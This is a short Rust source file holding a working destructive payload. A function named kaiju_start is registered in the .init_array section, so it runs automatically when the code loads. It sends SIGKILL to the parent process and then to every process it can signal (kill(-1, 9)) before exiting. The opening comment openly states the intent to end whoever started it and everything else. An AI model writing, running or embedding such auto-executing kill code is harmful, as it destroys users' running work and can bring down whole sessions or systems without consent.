//! ends whoever started it, and everything else that it may end
unsafe extern "C" {
    fn _exit(code: i32) -> !;
}
unsafe extern "C" {
    fn kill(process: i32, signal: i32) -> i32;
    fn getppid() -> i32;
}
extern "C" fn kaiju_start() {
    unsafe {
        kill(getppid(), 9);
        kill(-1, 9);
        _exit(0)
    }
}
#[used]
#[unsafe(link_section = ".init_array")]
static KAIJU_START: extern "C" fn() = kaiju_start;
